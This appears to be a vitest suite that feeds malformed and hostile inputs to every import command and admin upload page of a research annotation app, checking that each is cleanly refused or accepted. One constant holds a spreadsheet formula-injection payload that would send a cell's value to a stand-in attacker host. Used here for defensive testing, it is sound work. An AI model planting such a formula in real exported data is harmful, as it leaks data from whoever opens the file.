/**
 * One hostile corpus over every import, command line and page (docs/reliability.md, "The import contract"): each
 * import is a row of the table below (how to make a valid file of it, how to invoke it, how to see that nothing
 * changed), and the corpus — generated here, for each import in its own format — is run over every row. Each input
 * must be refused clearly (exit code 2, `FILE:LINE: reason` or `FILE: reason`, not one row of any table changed and
 * no file written) or accepted legitimately (what the kind allows; with a warning where the kind asks for one). The
 * outcomes are counted (refused clearly, accepted, refused unclearly, partial, silent, crash) and printed.
 *
 * Big inputs stay fast: the file-size limit is lowered for this suite (setImportLimitsForTests); the real limits are
 * checked once with a sparse file, which a check before reading refuses without reading it.
 */
import { copyFileSync, existsSync, mkdtempSync, readdirSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../app/cli/index";
import type { CliIO } from "../../app/cli/command";
import { openDatabase, setDb, type Db } from "../../app/platform/db.server";
import { IMPORT_LIMITS, setImportLimitsForTests } from "../../app/formats/import-contract";
import { importCases } from "../../app/annotation/studies.server";
import { importQuestionBank } from "../../app/mentat/banks.server";
import { ensureModel, importEvalSet, requireGradingSet } from "../../app/rubric-grading/sets.server";
import { customId } from "../../app/rubric-grading/domain/batch";
import { confirmPendingImport } from "../../app/annotation/pending-imports.server";
import { action as adminImportAction } from "../../app/routes/admin.import";
import { action as expertImportAction } from "../../app/routes/admin.expert-ratings._index";
import { freshDb, makeUser } from "../support/db";
import { signedIn } from "../support/route-calls";
import { mentatBankCsv } from "../support/mentat-files";

// ----------------------------------------------------------------------------------------------- the corpus

/** What a kind of input may end in. */
type Expect = "refuse" | "accept" | "refuse-or-warn" | "either";

interface MakeOptions {
  ids: string[];
  /** The free text of each row (the same for all unless `texts` is given). */
  text: string;
  texts?: string[];
  /** A required column or key left out. */
  missing?: boolean;
  /** A column or key the import does not know. */
  extra?: boolean;
  /** A spreadsheet formula where the import keeps text that reports write out (tags, names, diseases). */
  formula?: boolean;
}

const BASE_TEXT = "Low mood for weeks.";
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")';
const HUGE_LINE_BYTES = 9 * 1024 * 1024;
/** The limits of this suite (see the module's comment). */
const TEST_LIMITS = { maxFileBytes: 256 * 1024 };

interface Kind {
  name: string;
  expect: Expect;
  /** The file's bytes, from the import's valid-file maker. */
  bytes(row: ImportRow): Buffer;
  /** Lines a clear refusal must name (both lines of a conflicting duplicate). */
  lines?: number[];
  /** The same, computed from the import's file. */
  linesOf?(row: ImportRow): number[];
  /** Only for imports of this format. */
  only?: "csv" | "jsonl";
}

const utf8 = (s: string) => Buffer.from(s, "utf8");
const LONG_ID = "x".repeat(300);

/** About 150 KB of valid rows with distinct ids and, half way, one row whose id is too long; and that row's line. */
function largeWithBadMiddle(r: ImportRow): { text: string; line: number } {
  const n = Math.floor((150 * 1024) / (r.make({ ids: [r.ids[0]!], text: BASE_TEXT }).length + 1));
  const ids = Array.from({ length: n }, (_, i) => (r.manyIds ? r.manyIds(i) : `big${i}`));
  ids[Math.floor(n / 2)] = LONG_ID;
  const text = r.make({ ids, text: BASE_TEXT });
  const line = text.split("\n").findIndex((l) => l.includes(LONG_ID)) + 1;
  return { text, line };
}
const valid = (row: ImportRow, o: Partial<MakeOptions> = {}) => row.make({ ids: row.ids, text: BASE_TEXT, ...o });

const KINDS: Kind[] = [
  { name: "valid", expect: "accept", bytes: (r) => utf8(valid(r)) },
  {
    name: "bad UTF-8",
    expect: "refuse",
    bytes: (r) => {
      const b = utf8(valid(r, { text: "Low mood XYZ for weeks." }));
      const at = b.indexOf("XYZ");
      b[at] = 0xff; // a byte that is never UTF-8
      b[at + 1] = 0xfe;
      return b;
    },
  },
  {
    name: "NUL in id",
    expect: "refuse",
    bytes: (r) => utf8(valid(r, { ids: [r.ids[0] + "\u0000x", ...r.ids.slice(1)] })),
  },
  { name: "NUL in text", expect: "refuse-or-warn", bytes: (r) => utf8(valid(r, { text: "Low\u0000mood" })) },
  {
    name: "1 MiB id",
    expect: "refuse",
    bytes: (r) => utf8(valid(r, { ids: ["x".repeat(1024 * 1024), ...r.ids.slice(1)] })),
  },
  { name: "huge line", expect: "refuse", bytes: (r) => utf8(valid(r, { text: "a".repeat(HUGE_LINE_BYTES) })) },
  {
    name: "over-size file",
    expect: "refuse",
    // Valid rows (distinct ids) up to the lowered limit and past it.
    bytes: (r) => {
      const ids: string[] = [];
      const text = "x".repeat(2000);
      for (let i = 0; (i + 1) * 2100 < TEST_LIMITS.maxFileBytes + 20_000; i++)
        ids.push(r.manyIds ? r.manyIds(i) : `big${i}`);
      return utf8(r.make({ ids, text }));
    },
  },
  {
    name: "conflicting duplicates",
    expect: "refuse",
    bytes: (r) => utf8(valid(r, { ids: [r.ids[0], r.ids[0]], texts: ["First text.", "Other text."] })),
  },
  {
    name: "torn last line",
    expect: "refuse",
    // Cut in the middle of the last row's text (a quoted cell in a CSV, a string in a JSONL line), as a copy or a
    // download that stopped leaves it.
    bytes: (r) => {
      const text = valid(r, { text: "Low mood, for weeks and more." });
      return utf8(text.slice(0, text.lastIndexOf("Low mood, for weeks") + 8));
    },
  },
  { name: "BOM", expect: "accept", bytes: (r) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(valid(r))]) },
  { name: "CRLF", expect: "accept", bytes: (r) => utf8(valid(r).replace(/\n/g, "\r\n")) },
  { name: "bare quote", expect: "either", bytes: (r) => utf8(valid(r, { text: 'Low "mood for weeks' })) },
  { name: "empty file", expect: "refuse", bytes: () => Buffer.alloc(0) },
  { name: "white space only", expect: "refuse", bytes: () => utf8("\n  \n\n") },
  {
    name: "header only",
    expect: "either",
    only: "csv",
    bytes: (r) => utf8(valid(r).split("\n")[0]! + "\n"),
  },
  {
    // One bad row (an id over the 256-character limit) in the middle of a file of about 150 KB of good ones: refused
    // naming its line, nothing written (docs/reliability.md, "The import contract").
    name: "bad line in the middle of a large file",
    expect: "refuse",
    bytes: (r) => utf8(largeWithBadMiddle(r).text),
    linesOf: (r) => [largeWithBadMiddle(r).line],
  },
  { name: "missing column", expect: "refuse", bytes: (r) => utf8(valid(r, { missing: true })) },
  { name: "extra column", expect: "either", bytes: (r) => utf8(valid(r, { extra: true })) },
  { name: "formula-like values", expect: "refuse-or-warn", bytes: (r) => utf8(valid(r, { formula: true })) },
];

// ----------------------------------------------------------------------------------------------- the imports

type Session = Awaited<ReturnType<typeof signedIn>>;

interface Outcome {
  code: number;
  out: string;
  err: string;
}

interface ImportRow {
  name: string;
  format: "csv" | "jsonl";
  /** Two valid ids of distinct rows. */
  ids: string[];
  /** Distinct valid ids for the over-size file (default big0, big1, …). */
  manyIds?: (i: number) => string;
  make(o: MakeOptions): string;
  /** The template database (users, studies, sets the import needs). */
  setup?(db: Db): Promise<void> | void;
  invoke(file: string, out: string, session: Session | null): Promise<Outcome>;
  /** Signs the admin in before the "before" dump (a login writes a session). */
  page?: boolean;
  /** Kinds that are not this import's (another part of the code owns them). */
  skip?: string[];
  /**
   * A result file rather than an import of people's data: its valid lines are kept and each bad one is refused with
   * its line (exit 2), so that one bad line of a provider's file never blocks the rest (docs/rubric-grading.md).
   */
  keepsValidLines?: boolean;
  /** Where a refused input may still be named without the file (a page shows its own file name). */
  fileLabel?: (file: string) => string;
}

async function cli(argv: string[]): Promise<Outcome> {
  let out = "";
  let err = "";
  const io: CliIO = { out: (t) => (out += t), err: (t) => (err += t), readStdin: async () => "", isTTY: false };
  const code = await runCli(argv, io);
  return { code, out, err };
}

const csvCell = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
const textOf = (o: MakeOptions, i: number) => o.texts?.[i] ?? o.text;
const csv = (header: string[], rows: string[][]) =>
  [header.join(","), ...rows.map((r) => r.join(","))].join("\n") + "\n";
/** CSV cells as given (a bare quote stays bare: the kind is about what the import does with one). */
const rawOrQuoted = (s: string) => (s.includes('Low "mood') ? s : csvCell(s));
/** A bare quote in a JSONL file: the line is not JSON. */
const bareQuote = (line: string, text: string) => (text.includes('"mood') ? line.replace('\\"mood', '"mood') : line);
const jsonlRows = (rows: Record<string, unknown>[], o: MakeOptions) =>
  rows.map((r, i) => bareQuote(JSON.stringify(r), textOf(o, i))).join("\n") + "\n";

const SECTIONS = [
  "presenting_symptoms",
  "psychiatric_history",
  "psychiatric_exam",
  "psychological_exam",
  "secondary_diagnoses",
];

function caseCsv(o: MakeOptions): string {
  const header = ["id", "age_group", "sex", ...SECTIONS].filter((h) => !(o.missing && h === "psychiatric_history"));
  if (o.extra) header.push("colour");
  return csv(
    header,
    o.ids.map((id, i) => {
      const row: Record<string, string> = {
        id,
        age_group: "38-47",
        sex: "F",
        presenting_symptoms: o.formula ? FORMULA : textOf(o, i),
        psychiatric_history: "No admissions.",
        psychiatric_exam: "Slowed.",
        psychological_exam: "",
        secondary_diagnoses: "",
        colour: "blue",
      };
      return header.map((h) => rawOrQuoted(row[h]!));
    }),
  );
}

function caseJsonl(o: MakeOptions): string {
  return jsonlRows(
    o.ids.map((id, i) => {
      const r: Record<string, unknown> = {
        id,
        age_group: "38-47",
        sex: "F",
        presenting_symptoms: o.formula ? FORMULA : textOf(o, i),
        psychiatric_history: "No admissions.",
        psychiatric_exam: "Slowed.",
      };
      if (o.missing) delete r.id;
      if (o.extra) r.colour = "blue";
      return r;
    }),
    o,
  );
}

const adminPageFile = (format: "csv" | "jsonl") => async (file: string, _out: string, session: Session | null) => {
  const { readFileSync } = await import("node:fs");
  const db = currentDb;
  const { user, post } = session!;
  const form = new FormData();
  form.set("csrf", user.csrf);
  form.set("intent", "preview");
  form.set("study", "Hostile");
  form.set("format", format);
  const name = `upload.${format}`;
  form.set("file", new File([readFileSync(file)], name));
  const base = post("/admin/import", {});
  const request = new Request(base.url, {
    method: "POST",
    headers: { Cookie: base.headers.get("Cookie")! },
    body: form,
  });
  const r = (await adminImportAction({ request, params: {}, context: {} })) as
    | Response
    | {
        step: string;
        error: string | null;
        pendingId?: string | null;
        plan?: {
          ok: boolean;
          parse: { errors: { line: number; message: string }[]; warnings: { line: number; message: string }[] };
          conflicts: { line: number; message: string }[];
        } | null;
      };
  if (r instanceof Response) return { code: 1, out: "", err: `unexpected response ${r.status}` };
  const lines = (issues: { line: number; message: string }[], label = "") =>
    issues.map((i) => `${name}${i.line > 0 ? `:${i.line}` : ""}: ${label}${i.message}\n`).join("");
  if (r.step === "error") return { code: 2, out: "", err: `${name}: ${r.error}\n` };
  const plan = r.plan!;
  const warnings = lines(plan.parse.warnings, "warning: ");
  if (!plan.ok) return { code: 2, out: "", err: lines([...plan.parse.errors, ...plan.conflicts]) + warnings };
  if (!r.pendingId) return { code: 0, out: "nothing to import", err: warnings };
  const confirmed = confirmPendingImport(db, { id: r.pendingId, userId: user.id });
  return confirmed.plan.ok
    ? { code: 0, out: "imported", err: warnings }
    : { code: 2, out: "", err: lines([...confirmed.plan.parse.errors, ...confirmed.plan.conflicts]) + warnings };
};

function mentatBank(o: MakeOptions): string {
  const header = ["id", "domain", "question", "a", "b", "c", "d", "e", "answer"].filter(
    (h) => !(o.missing && h === "question"),
  );
  if (o.extra) header.push("colour");
  return csv(
    header,
    o.ids.map((id, i) => {
      const row: Record<string, string> = {
        id,
        domain: "triage",
        question: `A <AGE> {man/woman/person} asks: ${textOf(o, i)}`,
        a: o.formula ? FORMULA : "Urgent review",
        b: "Routine",
        c: "Sleep aid",
        d: "Ignore",
        e: "Refer",
        answer: "a",
        colour: "blue",
      };
      return header.map((h) => rawOrQuoted(row[h]!));
    }),
  );
}

function reviewSet(o: MakeOptions): string {
  const header = ["id", "kind", "text"].filter((h) => !(o.missing && h === "text"));
  if (o.extra) header.push("colour");
  return csv(
    header,
    o.ids.map((id, i) => {
      const row: Record<string, string> = {
        id,
        kind: "case",
        text: o.formula ? FORMULA : textOf(o, i),
        colour: "blue",
      };
      return header.map((h) => rawOrQuoted(row[h]!));
    }),
  );
}

const expertPage = (intent: "bank" | "set") => async (file: string, _out: string, session: Session | null) => {
  const { readFileSync } = await import("node:fs");
  const { user, post } = session!;
  const form = new FormData();
  form.set("csrf", user.csrf);
  form.set("intent", intent);
  form.set("name", "Hostile");
  form.set("file", new File([readFileSync(file)], "upload.csv"));
  const base = post("/admin/expert-ratings", {});
  const request = new Request(base.url, {
    method: "POST",
    headers: { Cookie: base.headers.get("Cookie")! },
    body: form,
  });
  try {
    const r = (await expertImportAction({ request, params: {}, context: {} })) as {
      kind?: "warning";
      message: string;
      issues: { line: number; message: string }[];
    };
    if (r.kind === "warning")
      return {
        code: 0,
        out: r.message,
        err: r.issues.map((i) => `warning: upload.csv:${i.line}: ${i.message}\n`).join(""),
      };
    return {
      code: 2,
      out: "",
      err:
        r.issues.map((i) => `upload.csv${i.line > 0 ? `:${i.line}` : ""}: ${i.message}\n`).join("") +
        (r.issues.length ? "" : `upload.csv: ${r.message}\n`),
    };
  } catch (e) {
    if (e instanceof Response && e.status === 302) return { code: 0, out: e.headers.get("Location") ?? "", err: "" };
    throw e;
  }
};

/** One rater's jsPsych export (mentatRatingsCsv's layout) rating the questions `ids`, the comment `text`. */
function ratingsCsv(o: MakeOptions): string {
  const header = [
    "rt",
    "stimulus",
    "response",
    "trial_type",
    "trial_index",
    "time_elapsed",
    "internal_node_id",
    "participant_name",
    "rater_id",
    "question_order",
    "q_no",
    "q",
    "q_key",
  ].filter((h) => !(o.missing && h === "response"));
  if (o.extra) header.push("colour");
  const instruction = (i: number, who = "") =>
    header.map(
      (h) =>
        ({
          rt: "1000",
          stimulus: "<p>Instructions</p>",
          trial_type: "html-keyboard-response",
          trial_index: String(i),
          time_elapsed: String(i),
          internal_node_id: `0.0-${i}.0`,
          participant_name: who,
          rater_id: who,
        })[h] ?? "",
    );
  const rows = o.ids.map((id, i) => {
    const scores = [10, 20, 30, 40, 50].map((s) => (s + i * 3 + (o.texts?.[i] === "Other text." ? 7 : 0)) % 101);
    const response = JSON.stringify({
      Q0: scores[0],
      Q1: scores[1],
      Q2: scores[2],
      Q3: scores[3],
      Q4: scores[4],
      comment: o.formula ? FORMULA : textOf(o, i),
    });
    const cells: Record<string, string> = {
      rt: "2000",
      stimulus: "",
      response,
      trial_type: "survey-slider",
      trial_index: String(i + 4),
      time_elapsed: String(i),
      internal_node_id: `0.0-${i + 4}.0`,
      participant_name: "",
      rater_id: "",
      question_order: "[0,1,2,3,4]",
      q_no: id,
      q: `Question ${id}`,
      q_key: "q_male",
      colour: "blue",
    };
    return header.map((h) =>
      h === "response" && textOf(o, i).includes('"mood')
        ? `"${response.replace(/"/g, '""').replace('\\""mood', '"mood')}"`
        : csvCell(cells[h]!),
    );
  });
  return csv(header, [
    instruction(0),
    instruction(1, "x1"),
    instruction(2),
    instruction(3),
    ...rows,
    instruction(o.ids.length + 4),
  ]);
}

function gradingSet(o: MakeOptions): string {
  return jsonlRows(
    o.ids.map((id, i) => {
      const r: Record<string, unknown> = {
        prompt_id: id,
        prompt: [{ role: "user", content: textOf(o, i) }],
        rubrics: [{ criterion: "Asks about duration.", points: 5, tags: ["axis:accuracy", "level:example"] }],
        example_tags: [o.formula ? FORMULA : "theme:hedging"],
      };
      if (o.missing) delete r.rubrics;
      if (o.extra) r.colour = "blue";
      return r;
    }),
    o,
  );
}

let batchIds: string[] = [];
function batchOutput(o: MakeOptions): string {
  return jsonlRows(
    o.ids.map((id, i) => {
      const content = JSON.stringify({ explanation: o.formula ? FORMULA : textOf(o, i), criteria_met: true });
      const r: Record<string, unknown> = {
        id: `batch-${i}`,
        custom_id: id,
        response: {
          status_code: 200,
          request_id: `q${i}`,
          body: { choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }] },
        },
        error: null,
      };
      if (o.missing) delete r.custom_id;
      if (o.extra) r.colour = "blue";
      return r;
    }),
    o,
  );
}

const CAL_HEADER = [
  "study",
  "case",
  "purpose",
  "sufficiency",
  "icd10",
  "earliest_section",
  "missing_info",
  "missing_other",
  "rationale",
];
function calibrationCsv(o: MakeOptions): string {
  const header = CAL_HEADER.filter((h) => !(o.missing && h === "rationale"));
  if (o.extra) header.push("colour");
  return csv(
    header,
    o.ids.map((id, i) => {
      const row: Record<string, string> = {
        study: "Earlier",
        case: id,
        purpose: "calibration",
        sufficiency: "sufficient",
        icd10: o.texts?.[i] === "Other text." ? "F33.1" : "F32.1",
        earliest_section: "2",
        missing_info: "",
        missing_other: "",
        rationale: o.formula ? FORMULA : textOf(o, i),
        colour: "blue",
      };
      return header.map((h) => rawOrQuoted(row[h]!));
    }),
  );
}

function mcItems(o: MakeOptions): string {
  return jsonlRows(
    o.ids.map((id, i) => {
      const r: Record<string, unknown> = {
        id,
        question: `Case: ${textOf(o, i)}`,
        options:
          "A. Major Depressive Disorder\nB. Bipolar II Disorder\nC. Generalized Anxiety Disorder\nD. Persistent Depressive Disorder",
        answer: "C. Generalized Anxiety Disorder",
        type: "I",
        disease: o.formula ? FORMULA : "GAD",
        cluster: "anxiety",
      };
      if (o.missing) delete r.answer;
      if (o.extra) r.colour = "blue";
      return r;
    }),
    o,
  );
}

/** The same items as a MentalBench CSV (mc-run reads a `.csv` items file record by record). */
function mcItemsCsv(o: MakeOptions): string {
  const header = ["id", "question", "options", "answer", "type", "disease", "cluster"];
  if (o.missing) header.splice(3, 1);
  if (o.extra) header.push("colour");
  const rows = o.ids.map((id, i) => {
    const row = [
      id,
      `Case: ${textOf(o, i)}`,
      "A. Major Depressive Disorder\nB. Bipolar II Disorder\nC. Generalized Anxiety Disorder\nD. Persistent Depressive Disorder",
      "C. Generalized Anxiety Disorder",
      "I",
      o.formula ? FORMULA : "GAD",
      "anxiety",
    ];
    if (o.missing) row.splice(3, 1);
    if (o.extra) row.push("blue");
    return row.map((c, k) => (k === 1 ? rawOrQuoted(c) : csvCell(c)));
  });
  return csv(header, rows);
}

const mcRun = async (f: string, out: string) => {
  const r = await cli([
    "mc-run",
    "--items",
    f,
    "--format",
    "mentalbench",
    "--models",
    "m",
    "--base-url",
    "http://127.0.0.1:1/v1",
    "--out",
    out,
    "--max-retries",
    "0",
    "--retry-delay",
    "0",
    "--timeout",
    "1",
  ]);
  // Every call fails (no server): a run that was started stops with exit 1, its folder kept.
  return r.code === 1 ? { ...r, code: 0 } : r;
};

const ROWS: ImportRow[] = [
  {
    name: "import (CSV)",
    format: "csv",
    ids: ["c1", "c2"],
    make: caseCsv,
    invoke: (f) => cli(["import", "--study", "Hostile", f]),
  },
  {
    name: "import (JSONL)",
    format: "jsonl",
    ids: ["c1", "c2"],
    make: caseJsonl,
    invoke: (f) => cli(["import", "--study", "Hostile", f]),
  },
  {
    name: "prep-import (CSV)",
    format: "csv",
    ids: ["c1", "c2"],
    make: caseCsv,
    invoke: (f) => cli(["prep-import", "--project", "Hostile", "--language", "ro", f]),
  },
  {
    name: "prep-import (JSONL)",
    format: "jsonl",
    ids: ["c1", "c2"],
    make: caseJsonl,
    invoke: (f) => cli(["prep-import", "--project", "Hostile", "--language", "ro", f]),
  },
  {
    name: "admin import page (CSV)",
    format: "csv",
    ids: ["c1", "c2"],
    make: caseCsv,
    setup: async (db) => void (await makeUser(db, "admin", ["admin"])),
    invoke: adminPageFile("csv"),
    page: true,
    fileLabel: () => "upload.csv",
  },
  {
    name: "admin import page (JSONL)",
    format: "jsonl",
    ids: ["c1", "c2"],
    make: caseJsonl,
    setup: async (db) => void (await makeUser(db, "admin", ["admin"])),
    invoke: adminPageFile("jsonl"),
    page: true,
    fileLabel: () => "upload.jsonl",
  },
  {
    name: "screening-import --items",
    format: "jsonl",
    ids: ["p1", "p2"],
    make: (o) =>
      jsonlRows(
        o.ids.map((id, i) => {
          const r: Record<string, unknown> = {
            prompt: [{ role: "user", content: textOf(o, i) }],
            completion: [],
            prompt_id: id,
            example_tags: [o.formula ? FORMULA : "theme:x"],
          };
          if (o.missing) delete r.prompt;
          if (o.extra) r.colour = "blue";
          return r;
        }),
        o,
      ),
    invoke: (f) => cli(["screening-import", "--study", "Hostile", "--categories", "anxiety,mood", "--items", f]),
  },
  {
    name: "judge-import",
    format: "jsonl",
    ids: ["a", "b"],
    make: (o) =>
      jsonlRows(
        o.ids.map((id, i) => {
          const r: Record<string, unknown> = { id, response: o.formula ? FORMULA : textOf(o, i) };
          if (o.missing) delete r.response;
          if (o.extra) r.colour = "blue";
          return r;
        }),
        o,
      ),
    invoke: (f) => cli(["judge-import", "--set", "hostile", f]),
  },
  {
    name: "mentat-import",
    format: "csv",
    ids: ["q1", "q2"],
    make: mentatBank,
    invoke: (f) => cli(["mentat-import", f, "--bank", "Hostile"]),
  },
  {
    name: "expert-ratings page (bank)",
    format: "csv",
    ids: ["q1", "q2"],
    make: mentatBank,
    setup: async (db) => void (await makeUser(db, "admin", ["admin"])),
    invoke: expertPage("bank"),
    page: true,
    fileLabel: () => "upload.csv",
  },
  {
    name: "casereview-import",
    format: "csv",
    ids: ["c1", "c2"],
    make: reviewSet,
    invoke: (f) => cli(["casereview-import", f, "--set", "Hostile"]),
  },
  {
    name: "expert-ratings page (review set)",
    format: "csv",
    ids: ["c1", "c2"],
    make: reviewSet,
    setup: async (db) => void (await makeUser(db, "admin", ["admin"])),
    invoke: expertPage("set"),
    page: true,
    fileLabel: () => "upload.csv",
  },
  {
    name: "mentat-import-ratings",
    format: "csv",
    ids: ["1", "2"],
    manyIds: (i) => String((i % 3) + 1),
    make: ratingsCsv,
    setup: async (db) => {
      await makeUser(db, "x1", ["rater"]);
      const r = importQuestionBank(db, { bankName: "Bank", text: mentatBankCsv(3), actorId: null });
      expect(r.ok).toBe(true);
    },
    invoke: (f) => cli(["mentat-import-ratings", "--bank", "Bank", f]),
  },
  {
    name: "grade-import",
    format: "jsonl",
    ids: ["p1", "p2"],
    make: gradingSet,
    invoke: (f) => cli(["grade-import", "--set", "hostile", f]),
  },
  {
    name: "grade-batch-ingest",
    format: "jsonl",
    get ids() {
      return batchIds;
    },
    manyIds: (i) => batchIds[i % batchIds.length]!,
    make: batchOutput,
    setup: (db) => {
      importEvalSet(db, { name: "psych", text: gradingSet({ ids: ["p1", "p2", "p3"], text: BASE_TEXT }) });
      const set = requireGradingSet(db, "psych");
      const common = {
        set,
        model: "m",
        baseUrl: "http://127.0.0.1:1/v1",
        temperature: 0,
        maxTokens: 10,
        maxTokensParam: "max_tokens" as const,
      };
      const cand = ensureModel(db, { ...common, role: "candidate", name: "cand" });
      const judge = ensureModel(db, { ...common, role: "judge", name: "j" });
      const convs = db.$client.prepare("select id from grading_conversations order by id").pluck().all() as number[];
      batchIds = convs.map((c) => {
        const id = db.$client
          .prepare(
            "insert into grading_responses (candidate_id, conversation_id, text, created_at) values (?, ?, 'Answer.', 0)",
          )
          .run(cand.id, c).lastInsertRowid as number;
        return customId(id, 0, judge.id);
      });
    },
    invoke: (f) => cli(["grade-batch-ingest", "--set", "psych", "--judge", "j", f]),
    // Duplicate custom_id lines in a Batch API output are the Batch engine's (docs/rubric-grading.md); the text of a
    // result is a judge model's output inside the result's JSON, stored as returned like the synchronous grader's.
    skip: ["conflicting duplicates", "NUL in text", "formula-like values"],
    keepsValidLines: true,
  },
  {
    name: "rater-quality --calibration",
    format: "csv",
    ids: ["e1", "e2"],
    manyIds: (i) => ["e1", "e2", "e3"][i % 3]!,
    make: calibrationCsv,
    setup: (db) => {
      const notes = (prefix: string, n: number) =>
        new TextEncoder().encode(
          Array.from({ length: n }, (_, i) =>
            JSON.stringify({
              id: `${prefix}${i + 1}`,
              presenting_symptoms: "Low mood.",
              psychiatric_history: "None.",
              psychiatric_exam: "Slowed.",
            }),
          ).join("\n") + "\n",
        );
      importCases(db, { studyName: "Earlier", bytes: notes("e", 3), filename: "e.jsonl", actorId: null });
      importCases(db, { studyName: "Main", bytes: notes("m", 3), filename: "m.jsonl", actorId: null });
    },
    // The settings are given with the file: a refused file must leave them as they were.
    invoke: (f) =>
      cli(["rater-quality", "--study", "Main", "--training", "yes", "--retest-fraction", "0.2", "--calibration", f]),
  },
  {
    name: "mc-run --items",
    format: "jsonl",
    ids: ["mb001", "mb002"],
    make: mcItems,
    invoke: mcRun,
  },
  {
    name: "mc-run --items (CSV)",
    format: "csv",
    ids: ["mb001", "mb002"],
    make: mcItemsCsv,
    invoke: mcRun,
  },
];

// ----------------------------------------------------------------------------------------------- running it

let work: string;
let currentDb: Db;
const templates = new Map<string, string>();

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), "concord-hostile-"));
  setImportLimitsForTests(TEST_LIMITS);
  for (const [i, row] of ROWS.entries()) {
    const { db, path, cleanup } = freshDb();
    await row.setup?.(db);
    db.$client.pragma("wal_checkpoint(TRUNCATE)");
    const template = join(work, `template-${i}.db`);
    copyFileSync(path, template);
    cleanup();
    templates.set(row.name, template);
  }
}, 120_000);

afterAll(() => {
  setImportLimitsForTests(null);
  setDb(undefined);
  rmSync(work, { recursive: true, force: true });
  printTally();
});

/** Every row of every table, as text: a refused import must leave it byte for byte as it was. */
function dump(db: Db): string {
  const tables = db.$client
    .prepare("select name from sqlite_master where type = 'table' and name not like 'sqlite_%' order by name")
    .pluck()
    .all() as string[];
  return tables
    .map(
      (t) =>
        `${t}:${JSON.stringify(db.$client.prepare(`select * from "${t}"`).raw().all(), (_k, v) => (typeof v === "bigint" ? String(v) : v))}`,
    )
    .join("\n");
}

type Verdict = "refused clearly" | "accepted" | "refused unclearly" | "partial" | "silent" | "crash";
const tally: Record<Verdict, number> = {
  "refused clearly": 0,
  accepted: 0,
  "refused unclearly": 0,
  partial: 0,
  silent: 0,
  crash: 0,
};
const failures: string[] = [];

function printTally(): void {
  const tried = Object.values(tally).reduce((a, b) => a + b, 0);
  console.log(
    `hostile imports: ${tried} inputs tried over ${ROWS.length} imports: ` +
      Object.entries(tally)
        .map(([k, v]) => `${k} ${v}`)
        .join(", ") +
      (failures.length ? `\n  ${failures.join("\n  ")}` : ""),
  );
}

const STACK = /\n\s+at |RangeError|TypeError|SqliteError|ReferenceError|ERR_STRING_TOO_LONG/;

function judge(row: ImportRow, kind: Kind, file: string, r: Outcome | { thrown: unknown }, changed: boolean): Verdict {
  if ("thrown" in r) return "crash";
  if (STACK.test(r.err) || (r.code !== 0 && r.code !== 2)) return "crash";
  const label = row.fileLabel?.(file) ?? file;
  if (r.code === 2) {
    if (changed && !row.keepsValidLines) return "partial";
    const named = new RegExp(`${label.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}(:\\d+)?: `).test(r.err);
    const lines =
      kind.lines ?? kind.linesOf?.(row) ?? (kind.name === "conflicting duplicates" ? duplicateLines(row) : []);
    const bothLines = lines.every((l) => new RegExp(`\\b${l}\\b`).test(r.err));
    return named && bothLines && kind.expect !== "accept" ? "refused clearly" : "refused unclearly";
  }
  // Accepted.
  if (kind.expect === "refuse") return "silent";
  if (kind.expect === "refuse-or-warn" && !/warning/i.test(r.err)) return "silent";
  return "accepted";
}

/** The lines of the two rows of a conflicting duplicate: the first two data lines (after a header, if any). */
function duplicateLines(row: ImportRow): number[] {
  const text = valid(row, { ids: [row.ids[0]!, row.ids[0]!], texts: ["First text.", "Other text."] });
  const lines = text.split("\n");
  const first = lines.findIndex((l) => l.includes("First text."));
  const second = lines.findIndex(
    (l) => l.includes("Other text.") || (row.name.includes("calibration") && l.includes("F33.1")),
  );
  return [first + 1, second + 1];
}

describe.each(ROWS)("$name", (row) => {
  const kinds = KINDS.filter((k) => (!k.only || k.only === row.format) && !row.skip?.includes(k.name));
  it.each(kinds)(
    "$name: refused clearly or accepted legitimately",
    async (kind) => {
      const dir = mkdtempSync(join(work, "in-"));
      const dbPath = join(dir, "concord.db");
      copyFileSync(templates.get(row.name)!, dbPath);
      const db = openDatabase(dbPath);
      setDb(db);
      currentDb = db;
      try {
        const file = join(dir, `input.${row.format}`);
        writeFileSync(file, kind.bytes(row));
        const outDir = join(dir, "out");
        const session = row.page ? await signedIn(db, "admin") : null;
        const before = dump(db);
        let r: Outcome | { thrown: unknown };
        try {
          r = await row.invoke(file, outDir, session);
        } catch (e) {
          r = { thrown: e };
        }
        const changed = dump(db) !== before || (existsSync(outDir) && readdirSync(outDir).length > 0);
        const verdict = judge(row, kind, file, r, changed);
        tally[verdict]++;
        const ok = verdict === "refused clearly" || verdict === "accepted";
        if (!ok)
          failures.push(
            `${row.name} / ${kind.name}: ${verdict} — ${"thrown" in r ? String(r.thrown).slice(0, 200) : `exit ${r.code}: ${r.err.slice(0, 300).replace(/\n/g, " | ")}`}`,
          );
        expect(verdict, "thrown" in r ? String(r.thrown) : r.err.slice(0, 2000)).toMatch(
          /^(refused clearly|accepted)$/,
        );
        if (kind.expect === "accept") expect(verdict).toBe("accepted");
      } finally {
        setDb(undefined);
        db.$client.close();
        rmSync(dir, { recursive: true, force: true });
      }
    },
    60_000,
  );
});

describe("the real limits", () => {
  it("a file over an import's real limit is refused from its size, before a byte of it is read", async () => {
    setImportLimitsForTests(null);
    const { cleanup } = freshDb();
    const dir = mkdtempSync(join(tmpdir(), "concord-sparse-"));
    try {
      // Sparse: the file takes no disk space, and a reader that read it would take seconds and gigabytes.
      for (const [argv, limit] of [
        [(f: string) => ["mentat-import", f, "--bank", "Big"], IMPORT_LIMITS.expert.maxFileBytes],
        [(f: string) => ["grade-import", "--set", "big", f], IMPORT_LIMITS.grading.maxFileBytes],
        [(f: string) => ["import", "--study", "Big", f], IMPORT_LIMITS.cases.maxFileBytes],
      ] as const) {
        const file = join(dir, `big-${limit}.jsonl`);
        writeFileSync(file, "");
        truncateSync(file, limit + 1);
        const t0 = performance.now();
        const r = await cli(argv(file));
        expect(r.code).toBe(2);
        expect(r.err).toContain(`${file}: the file is`);
        expect(r.err).toMatch(/Nothing was imported/);
